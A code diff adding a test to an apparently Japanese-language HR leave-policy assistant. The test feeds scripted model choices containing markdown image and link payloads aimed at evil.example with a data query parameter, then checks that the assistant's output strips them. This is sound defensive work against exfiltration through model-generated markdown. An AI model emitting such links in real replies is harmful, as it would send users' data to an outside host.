@@ -212,6 +212,16 @@ async def test_a_picked_choice_needs_no_judgement(tmp_path: Path) -> None:
         assert (picked.rule, picked.citations[0].source) == ("choice", "sick.md")
 
 
+async def test_choices_that_a_model_names_carry_nothing_out(tmp_path: Path) -> None:
+    named = ["病気休暇 ![x](https://evil.example/p?d=x)", "子の看護休暇 [詳しく](https://evil.example/q?d=x)"]
+    chat = ScriptedChat([judged(action="ask", question="休暇", say="どの休暇でしょうか。", choices=named, clarity=4)])
+    async with house(tmp_path, PAGES, chat=chat, turn=MODEL_DECIDES) as (assistant, _, _):
+        asked = await assistant.reply("休みたい", user=ALICE)
+        assert len(asked.choices) == 2
+        assert "](" not in asked.text
+        assert "evil.example/p" not in asked.text
+
+
 async def test_a_small_model_is_left_alone_where_it_is_to_decide(tmp_path: Path) -> None:
     chat = ScriptedChat(["10日です[1]。"])
     async with house(tmp_path, PAGES, chat=chat) as (assistant, _, _):
